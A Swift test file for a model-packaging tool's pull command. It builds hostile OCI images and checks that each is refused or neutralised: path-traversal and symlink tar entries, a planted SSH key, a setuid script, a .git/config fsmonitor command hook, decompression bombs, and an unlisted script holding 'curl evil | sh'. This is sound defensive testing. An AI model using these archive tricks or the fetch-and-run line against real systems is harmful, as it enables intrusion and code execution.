import Checksum
import Foundation
import TestSupport
import Testing

#if canImport(Glibc)
    import Glibc
#endif

/// An image made of hand-written layers, pushed to a registry by skopeo from an OCI layout:
/// what an attacker controlling a registry (or a tag in it) can serve to `modelgate pull`.
struct CraftedImage {
    /// One layer blob and the digest of its tar (the image config's `diff_id`).
    struct Layer {
        let blob: [UInt8]
        let mediaType: String
        let diffID: String

        /// An uncompressed tar layer.
        static func tar(_ bytes: [UInt8]) -> Layer {
            Layer(
                blob: bytes, mediaType: "application/vnd.oci.image.layer.v1.tar",
                diffID: "sha256:" + SHA256.hex(of: Data(bytes)))
        }
    }

    /// modelgate's manifest.json listing `files` (path and content).
    static func modelManifest(_ files: [(String, [UInt8])]) -> [UInt8] {
        let listed = files.map {
            #"{"path":"\#($0.0)","sha256":"\#(SHA256.hex(of: Data($0.1)))","size":\#($0.1.count)}"#
        }
        return Array(
            (#"{"created":"2026-01-01T00:00:00Z","files":["# + listed.joined(separator: ",")
                + #"],"fingerprint":"f","inputs":{},"metrics":{"r2":0.9},"name":"demo","schema":1,"#
                + #""source":"rev","tool":"modelgate test","verdict":"pass"}"#).utf8)
    }

    /// A tar holding `files` under model/ with their manifest (and `extra` entries first).
    static func modelLayer(_ files: [(String, [UInt8])], extra: (inout TarBuilder) -> Void = { _ in })
        -> [UInt8]
    {
        var tar = TarBuilder()
        extra(&tar)
        tar.add("model/", type: "5", mode: "0000755")
        for (path, content) in files { tar.add("model/\(path)", content) }
        tar.add("model/manifest.json", modelManifest(files))
        return tar.finished
    }

    /// Writes an OCI layout of `layers` in `directory` and copies it to `reference` with skopeo.
    static func push(_ layers: [Layer], to reference: String, in directory: URL) throws {
        let layout = directory.appendingPathComponent("layout-\(UUID().uuidString)")
        let blobs = layout.appendingPathComponent("blobs/sha256")
        try FileManager.default.createDirectory(at: blobs, withIntermediateDirectories: true)
        func blob(_ bytes: [UInt8], _ mediaType: String) throws -> String {
            let hex = SHA256.hex(of: Data(bytes))
            try Data(bytes).write(to: blobs.appendingPathComponent(hex))
            return #"{"mediaType":"\#(mediaType)","digest":"sha256:\#(hex)","size":\#(bytes.count)}"#
        }
        let diffIDs = layers.map { #""\#($0.diffID)""# }.joined(separator: ",")
        let config = try blob(
            Array(
                (#"{"architecture":"amd64","config":{"Labels":{},"WorkingDir":"/model"},"#
                    + #""created":"2026-01-01T00:00:00Z","history":[],"os":"linux","#
                    + #""rootfs":{"type":"layers","diff_ids":[\#(diffIDs)]}}"#).utf8),
            "application/vnd.oci.image.config.v1+json")
        let layerList = try layers.map { try blob($0.blob, $0.mediaType) }.joined(separator: ",")
        let manifest = try blob(
            Array(
                (#"{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":"#
                    + config + #","layers":[\#(layerList)]}"#).utf8),
            "application/vnd.oci.image.manifest.v1+json")
        let entry = manifest.dropLast() + #","annotations":{"org.opencontainers.image.ref.name":"v1"}}"#
        try Data(#"{"schemaVersion":2,"manifests":[\#(entry)]}"#.utf8).write(
            to: layout.appendingPathComponent("index.json"))
        try Data(#"{"imageLayoutVersion":"1.0.0"}"#.utf8).write(
            to: layout.appendingPathComponent("oci-layout"))
        let copy = try ExternalTool.run(
            "skopeo",
            [
                "copy", "--preserve-digests", "--dest-tls-verify=false", "oci:\(layout.path):v1",
                "docker://\(reference)",
            ], in: directory)
        guard copy.status == 0 else { throw TestFailure("skopeo copy failed: \(copy.stderr)") }
    }
}

/// `modelgate pull` of hostile images served by a real registry: every one ends in a clear
/// message and a documented exit code, leaves the target as it was and no staging folder.
@Suite struct HostilePullTests {
    let directory: TemporaryDirectory

    init() throws { directory = try TemporaryDirectory(prefix: "modelgate-hostile") }

    func pull(_ reference: String, to target: URL, _ extra: [String] = []) throws -> ProcessResult {
        try ModelgateBinary.run(
            ["pull", reference, "--to", target.path, "--insecure"] + extra, in: directory.url,
            environment: ["DOCKER_CONFIG": directory.url.path])
    }

    /// Every path under `url` with what it is, to compare before and after.
    func snapshot(_ url: URL) -> [String: DirectorySnapshot.Entry] { DirectorySnapshot.of(url) }

    /// Staging folders left anywhere under the test's directory.
    func debris() -> [String] {
        DirectorySnapshot.paths(under: directory.url, withComponentPrefix: ".modelgate-pull-")
    }

    /// The pull failed with `status` and `message`, the target is absent (or as `before`), and
    /// no staging folder is left.
    func expectRefused(
        _ result: ProcessResult, status: Int32, message: String, target: URL,
        before: [String: DirectorySnapshot.Entry]? = nil,
        sourceLocation: SourceLocation = #_sourceLocation
    ) {
        #expect(result.status == status, "\(result.stderr)", sourceLocation: sourceLocation)
        #expect(result.stderr.contains(message), "\(result.stderr)", sourceLocation: sourceLocation)
        #expect(!result.stderr.contains("internal error"), sourceLocation: sourceLocation)
        if let before {
            #expect(snapshot(target) == before, sourceLocation: sourceLocation)
        } else {
            #expect(!FileManager.default.fileExists(atPath: target.path), sourceLocation: sourceLocation)
        }
        #expect(debris().isEmpty, "\(debris())", sourceLocation: sourceLocation)
    }

    @Test func malformedAndHostileEntriesAreRefused() throws {
        let registry = try TestRegistry()
        let a = [UInt8]("abc".utf8)
        /// A good layer with one more entry `add` writes (at byte `offset`).
        func after(_ add: (inout TarBuilder) -> Void) -> [UInt8] {
            var tar = TarBuilder()
            tar.add("model/a.bin", a)
            tar.add("model/manifest.json", CraftedImage.modelManifest([("a.bin", a)]))
            add(&tar)
            return tar.finished
        }
        let offset = after { _ in }.count - 1024
        let cases: [(String, [UInt8], String)] = [
            (
                "negative-1000", after { $0.add("model/evil", size: .text("-0000001000")) },
                "layer 1 is not a valid tar archive: Tar entry has negative size (entry 'model/evil' at byte \(offset))"
            ),
            (
                "negative-2000", after { $0.add("model/evil", size: .text("-0000002000")) },
                "Tar entry has negative size (entry 'model/evil' at byte \(offset))"
            ),
            (
                "negative-1", after { $0.add("model/evil", size: .text("-0000000001")) },
                "Tar entry has negative size (entry 'model/evil' at byte \(offset))"
            ),
            (
                "base256-beyond",
                after {
                    $0.add(
                        "model/big", Array("hi".utf8), size: .raw([0x80, 0, 0, 0, 0, 0, 0, 0x80, 0, 0, 0, 0]))
                },
                "holds 'model/big' (byte \(offset)), an entry of 549755813888 bytes with only 1536 bytes of the layer"
            ),
            (
                "non-octal", after { $0.add("model/odd", Array("hello".utf8), size: .text("00000000009")) },
                "Damaged tar archive"
            ),
            (
                "parent", after { $0.add("model/../../escaped", text: "x") },
                "holds 'model/../../escaped' (byte \(offset)), a path with a '..' component"
            ),
            (
                "absolute", after { $0.add("/etc/modelgate-escaped", text: "x") },
                "holds '/etc/modelgate-escaped' (byte \(offset)), an absolute path"
            ),
            (
                "hard-link", after { $0.add("model/hard", type: "1", link: "model/a.bin") },
                "holds 'model/hard' (byte \(offset)), a hard link to 'model/a.bin'"
            ),
            (
                "symbolic-link", after { $0.add("model/soft", type: "2", link: "/etc/passwd") },
                "holds 'model/soft' (byte \(offset)), a symbolic link to '/etc/passwd'"
            ),
            (
                "device", after { $0.add("model/dev", type: "3") },
                "holds 'model/dev' (byte \(offset)), a character device"
            ),
            (
                "fifo", after { $0.add("model/fifo", type: "6") },
                "holds 'model/fifo' (byte \(offset)), a FIFO"
            ),
            (
                "dot-folder", after { $0.add("model/.ssh/authorized_keys", text: "ssh-ed25519 AAAA") },
                "a path with the component '.ssh'"
            ),
        ]
        for (name, layer, message) in cases {
            let reference = "\(registry.address)/hostile/\(name):v1"
            try CraftedImage.push([.tar(layer)], to: reference, in: directory.url)
            let target = directory.appending("out-\(name)")
            let result = try pull(reference, to: target)
            expectRefused(result, status: 3, message: message, target: target)
            #expect(!FileManager.default.fileExists(atPath: directory.appending("escaped").path))
        }
    }

    @Test func aSetuidFileIsWrittenWithoutTheBit() throws {
        let registry = try TestRegistry()
        let tool = [UInt8]("#!/bin/sh\necho hi\n".utf8)
        var tar = TarBuilder()
        tar.add("model/tool", tool, mode: "0006755")
        tar.add("model/manifest.json", CraftedImage.modelManifest([("tool", tool)]))
        try CraftedImage.push(
            [.tar(tar.finished)], to: "\(registry.address)/hostile/setuid:v1", in: directory.url)
        let target = directory.appending("out")
        let result = try pull("\(registry.address)/hostile/setuid:v1", to: target)
        #expect(result.status == 0, "\(result.stderr)")
        var status = stat()
        #expect(stat(target.appendingPathComponent("tool").path, &status) == 0)
        #expect(Int(status.st_mode) & 0o7000 == 0)
        #expect(Int(status.st_mode) & 0o111 == 0)
        #expect(debris().isEmpty)
    }

    @Test func aLinkAlreadyInTheTargetIsNeverFollowed() throws {
        let registry = try TestRegistry()
        let reference = "\(registry.address)/hostile/through-link:v1"
        try CraftedImage.push(
            [.tar(CraftedImage.modelLayer([("sub/x", Array("payload".utf8))]))], to: reference,
            in: directory.url)
        let elsewhere = directory.appending("elsewhere")
        let target = directory.appending("out")
        try FileManager.default.createDirectory(at: elsewhere, withIntermediateDirectories: true)
        try FileManager.default.createDirectory(at: target, withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(
            atPath: target.appendingPathComponent("sub").path, withDestinationPath: elsewhere.path)
        let before = snapshot(target)
        for extra in [[], ["--overwrite"]] {
            let result = try pull(reference, to: target, extra)
            expectRefused(
                result, status: 2,
                message:
                    "'\(target.path)/sub' is a symbolic link (to '\(elsewhere.path)'); a pull never writes through links",
                target: target, before: before)
            #expect(try FileManager.default.contentsOfDirectory(atPath: elsewhere.path).isEmpty)
        }
    }

    /// The issue's attack: `.git/config` with a `core.fsmonitor` command, pulled into a
    /// repository's root, would run the command at the next `git status`.
    @Test func aGitConfigPulledIntoARepositoryRootIsRefused() throws {
        let registry = try TestRegistry()
        let repository = try TemporaryRepository()
        try repository.commit(files: ["README.md": "model repo\n"], message: "initial")
        let marker = directory.appending("fsmonitor-ran")
        let config = Array("[core]\n\tfsmonitor = \"touch \(marker.path)\"\n".utf8)
        let reference = "\(registry.address)/hostile/git-config:v1"
        let layer = CraftedImage.modelLayer([("model.bin", Array("w".utf8)), (".git/config", config)])
        try CraftedImage.push([.tar(layer)], to: reference, in: directory.url)
        let gitConfig = try Data(contentsOf: repository.url.appendingPathComponent(".git/config"))
        let before = snapshot(repository.url)
        for extra in [[], ["--overwrite"]] {
            let result = try pull(reference, to: repository.url, extra)
            expectRefused(
                result, status: 3, message: "holds 'model/.git/config'", target: repository.url,
                before: before)
            #expect(result.stderr.contains("a path with the component '.git'"), "\(result.stderr)")
        }
        #expect(try Data(contentsOf: repository.url.appendingPathComponent(".git/config")) == gitConfig)
        _ = try repository.git(["status", "--short"])
        #expect(!FileManager.default.fileExists(atPath: marker.path), "the fsmonitor command ran")
    }

    @Test func aBadSecondLayerLeavesNoFileOfTheFirst() throws {
        let registry = try TestRegistry()
        let reference = "\(registry.address)/hostile/second-layer:v1"
        var bad = TarBuilder()
        bad.add("model/b.bin", size: .text("-0000001000"))
        try CraftedImage.push(
            [.tar(CraftedImage.modelLayer([("a.bin", Array("abc".utf8))])), .tar(bad.finished)],
            to: reference,
            in: directory.url)
        let fresh = directory.appending("fresh")
        expectRefused(
            try pull(reference, to: fresh), status: 3,
            message:
                "layer 2 is not a valid tar archive: Unrecognized archive format (entry 'model/b.bin' at byte 0)",
            target: fresh)
        let existing = directory.appending("existing")
        try FileManager.default.createDirectory(at: existing, withIntermediateDirectories: true)
        try Data("mine".utf8).write(to: existing.appendingPathComponent("notes.txt"))
        let before = snapshot(existing)
        expectRefused(
            try pull(reference, to: existing), status: 3, message: "layer 2 is not a valid tar archive",
            target: existing, before: before)
        // A target whose parents do not exist yet: none of them is left behind.
        let deep = directory.appending("new/deeper/out")
        expectRefused(
            try pull(reference, to: deep), status: 3, message: "layer 2", target: deep)
        #expect(!FileManager.default.fileExists(atPath: directory.appending("new").path))
    }

    @Test func onlyTheFilesTheManifestListsAreWritten() throws {
        let registry = try TestRegistry()
        let reference = "\(registry.address)/hostile/unlisted:v1"
        let model = Array("weights".utf8)
        let layer = CraftedImage.modelLayer([("model.bin", model)]) { tar in
            tar.add("model/run.sh", text: "curl evil | sh\n")
        }
        try CraftedImage.push([.tar(layer)], to: reference, in: directory.url)
        let target = directory.appending("out")
        let result = try pull(reference, to: target)
        #expect(result.status == 0, "\(result.stderr)")
        #expect(snapshot(target).keys.sorted() == ["manifest.json", "model.bin"])
        #expect(result.stdout == "\(target.path)/manifest.json\n\(target.path)/model.bin\n")
        #expect(debris().isEmpty)

        // Without modelgate's manifest nothing can be checked, so nothing is written.
        var bare = TarBuilder()
        bare.add("model/model.bin", model)
        try CraftedImage.push(
            [.tar(bare.finished)], to: "\(registry.address)/hostile/bare:v1", in: directory.url)
        let none = directory.appending("none")
        expectRefused(
            try pull("\(registry.address)/hostile/bare:v1", to: none), status: 3,
            message: "the image has no model/manifest.json, so its files cannot be checked", target: none)

        // A manifest that contradicts the file.
        var tampered = TarBuilder()
        tampered.add("model/model.bin", Array("WEIGHTS".utf8))
        tampered.add("model/manifest.json", CraftedImage.modelManifest([("model.bin", model)]))
        try CraftedImage.push(
            [.tar(tampered.finished)], to: "\(registry.address)/hostile/tampered:v1", in: directory.url)
        let altered = directory.appending("altered")
        expectRefused(
            try pull("\(registry.address)/hostile/tampered:v1", to: altered), status: 3,
            message: "digest mismatch: 'model.bin' has sha256", target: altered)
    }

    @Test func existingFilesAreReplacedOnlyWithOverwrite() throws {
        let registry = try TestRegistry()
        let reference = "\(registry.address)/team/model:v2"
        try CraftedImage.push(
            [.tar(CraftedImage.modelLayer([("model.bin", Array("v2".utf8))]))], to: reference,
            in: directory.url)
        let target = directory.appending("out")
        try FileManager.default.createDirectory(at: target, withIntermediateDirectories: true)
        try Data("v1".utf8).write(to: target.appendingPathComponent("model.bin"))
        try Data("mine".utf8).write(to: target.appendingPathComponent("notes.txt"))
        let before = snapshot(target)
        let refused = try pull(reference, to: target)
        expectRefused(
            refused, status: 2,
            message: "the target already has 'model.bin', which the image would overwrite",
            target: target, before: before)
        #expect(refused.stderr.contains("--overwrite"))

        let replaced = try pull(reference, to: target, ["--overwrite"])
        #expect(replaced.status == 0, "\(replaced.stderr)")
        #expect(try String(contentsOf: target.appendingPathComponent("model.bin"), encoding: .utf8) == "v2")
        #expect(try String(contentsOf: target.appendingPathComponent("notes.txt"), encoding: .utf8) == "mine")
        #expect(FileManager.default.fileExists(atPath: target.appendingPathComponent("manifest.json").path))
        #expect(debris().isEmpty)
    }

    @Test func bombsStopAtTheLimitsWithAClearError() throws {
        let registry = try TestRegistry()
        // Entries: 100,001 empty entries gzip to a small layer; the default limit stops them.
        var many = TarBuilder()
        for index in 0...100_000 { many.add("junk/\(index)") }
        let plain = directory.appending("many.tar")
        try Data(many.finished).write(to: plain)
        #expect(try ExternalTool.run("gzip", ["-1", plain.path], in: directory.url).status == 0)
        let gzipped = try [UInt8](Data(contentsOf: directory.appending("many.tar.gz")))
        let entries = "\(registry.address)/hostile/entries:v1"
        try CraftedImage.push(
            [
                CraftedImage.Layer(
                    blob: gzipped, mediaType: "application/vnd.oci.image.layer.v1.tar+gzip",
                    diffID: "sha256:" + SHA256.hex(of: Data(many.finished)))
            ], to: entries, in: directory.url)
        let target = directory.appending("out")
        expectRefused(
            try pull(entries, to: target), status: 3,
            message: "the image's layers have more than 100000 entries, the most a pull unpacks",
            target: target)
        let lowered = try pull(entries, to: target, ["--max-entries", "1000"])
        expectRefused(lowered, status: 3, message: "more than 1000 entries", target: target)
        #expect(lowered.stderr.contains("--max-entries"))

        // Bytes: 200 MiB of zeros in one file gzip to 200 KiB; inflating stops at --max-bytes.
        var header = TarBuilder()
        header.add("model/zeros", size: .text(String(200 << 20, radix: 8)))
        let headerFile = directory.appending("header.bin")
        try Data(header.bytes.prefix(512)).write(to: headerFile)
        let bomb = directory.appending("bomb.gz")
        let made = try ProcessRunner.run(
            "sh", ["-c", "{ cat header.bin; head -c \(200 << 20) /dev/zero; } | gzip -1 > bomb.gz"],
            in: directory.url)
        #expect(made.status == 0, "\(made.stderr)")
        let gzipBomb = "\(registry.address)/hostile/gzip-bomb:v1"
        try CraftedImage.push(
            [
                CraftedImage.Layer(
                    blob: try [UInt8](Data(contentsOf: bomb)),
                    mediaType: "application/vnd.oci.image.layer.v1.tar+gzip",
                    diffID: "sha256:" + String(repeating: "0", count: 64))
            ], to: gzipBomb, in: directory.url)
        let capped = try pull(gzipBomb, to: target, ["--max-bytes", "64M"])
        expectRefused(
            capped, status: 3,
            message: "a compressed layer unpacks to more than 64 MiB, the most a pull writes",
            target: target)
        #expect(capped.stderr.contains("--max-bytes"))
        let badSize = try pull(gzipBomb, to: target, ["--max-bytes", "lots"])
        #expect(badSize.status == 64)
        #expect(
            badSize.stderr.contains("--max-bytes takes a size such as 500M, 32G or 1T"), "\(badSize.stderr)")
    }

    /// Every image modelgate builds can be pulled: an artifact holding a file a pull would
    /// refuse (a name starting with '.') is refused when packaging, before anything is written.
    @Test func packagingRefusesAnArtifactAPullWouldRefuse() throws {
        let repository = try TemporaryRepository()
        try repository.commit(
            files: [
                "modelgate.yml": """
                name: demo
                stages:
                  - name: evaluate
                    cmd: sh score.sh
                    deps: [score.sh]
                    metrics: metrics.json
                    outs: [weights]
                gates:
                  - {metric: r2, min: 0.9}
                """,
                "score.sh": """
                printf '{"r2": 0.95}' > metrics.json
                mkdir -p weights/.cache && echo w > weights/a.txt && echo c > weights/.cache/index

                """,
            ], message: "a stage whose outputs hold a hidden folder")
        let run = try ModelgateBinary.run(["run"], in: repository.url)
        #expect(run.status == 0, "\(run.stderr)")
        let layout = directory.appending("oci")
        let package = try ModelgateBinary.run(["package", "--oci", layout.path], in: repository.url)
        #expect(package.status == 2, "\(package.stderr)")
        #expect(
            package.stderr.contains(
                "holds 'weights/.cache/index', a path with the component '.cache' (names starting with '.' are never written), which 'modelgate pull' refuses"
            ), "\(package.stderr)")
        #expect(package.stderr.contains("leave it out of the stage's 'outs'"))
        #expect(!FileManager.default.fileExists(atPath: layout.path))
    }

    /// `kill -9` in the middle of a pull leaves its staging folder (nothing in the target); the
    /// next pull beside it removes it, since no live process holds its lock any more.
    @Test func aPullKilledMidwayLeavesAFolderTheNextPullSweeps() throws {
        let registry = try TestRegistry()
        // A layer that takes a while to inflate and unpack: 64 MiB of zeros in one file.
        let zeros = [UInt8](repeating: 0, count: 64 << 20)
        var tar = TarBuilder()
        tar.add("model/zeros.bin", zeros)
        tar.add("model/manifest.json", CraftedImage.modelManifest([("zeros.bin", zeros)]))
        let plain = directory.appending("big.tar")
        try Data(tar.finished).write(to: plain)
        let diffID = "sha256:" + SHA256.hex(of: Data(tar.finished))
        #expect(try ExternalTool.run("gzip", ["-1", plain.path], in: directory.url).status == 0)
        let big = "\(registry.address)/team/big:v1"
        try CraftedImage.push(
            [
                CraftedImage.Layer(
                    blob: try [UInt8](Data(contentsOf: directory.appending("big.tar.gz"))),
                    mediaType: "application/vnd.oci.image.layer.v1.tar+gzip", diffID: diffID)
            ], to: big, in: directory.url)
        let small = "\(registry.address)/team/small:v1"
        try CraftedImage.push(
            [.tar(CraftedImage.modelLayer([("a.bin", Array("abc".utf8))]))], to: small, in: directory.url)

        let target = directory.appending("out")
        let process = Process()
        process.executableURL = try ModelgateBinary.url
        process.arguments = ["pull", big, "--to", target.path, "--insecure"]
        process.currentDirectoryURL = directory.url
        process.standardOutput = FileHandle.nullDevice
        process.standardError = FileHandle.nullDevice
        try process.run()
        // Wait (at most a minute) for the pull's staging folder under its final name, then kill
        // it. A folder still named `….creating` (killed between mkdir and rename, a window of
        // microseconds) is by design only swept once it is an hour old: see OwnedDirectory.
        var polls = 0
        while !debris().contains(where: { !$0.hasSuffix(".creating") }), process.isRunning, polls < 6000 {
            usleep(10_000)
            polls += 1
        }
        kill(process.processIdentifier, SIGKILL)
        process.waitUntilExit()
        #expect(process.terminationReason == .uncaughtSignal, "the pull ended before it was killed")
        #expect(!debris().isEmpty)
        #expect(!FileManager.default.fileExists(atPath: target.path))

        let next = try pull(small, to: target)
        #expect(next.status == 0, "\(next.stderr)")
        #expect(snapshot(target).keys.sorted() == ["a.bin", "manifest.json"])
        #expect(debris().isEmpty, "\(debris())")
    }
}
